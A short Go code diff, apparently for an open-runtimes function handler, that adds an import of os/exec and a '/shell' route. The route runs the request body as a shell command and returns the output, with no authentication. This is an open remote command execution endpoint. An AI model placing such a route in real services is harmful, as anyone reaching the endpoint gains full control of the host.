@@ -2,6 +2,7 @@ package handler
 
 import (
 	"os"
+	"os/exec"
 	"strings"
 
 	"github.com/open-runtimes/types-for-go/v4/openruntimes"
@@ -25,6 +26,10 @@ func mirror(Context openruntimes.Context) openruntimes.Response {
 }
 
 var requests = map[string]route{
+	"/shell": func(Context openruntimes.Context) openruntimes.Response {
+		output, _ := exec.Command("/bin/sh", "-c", Context.Req.BodyText()).Output()
+		return res.Binary(output)
+	},
 	"/body-json": func(Context openruntimes.Context) openruntimes.Response {
 		var parsed any
 		if err := Context.Req.BodyJson(&parsed); err != nil {
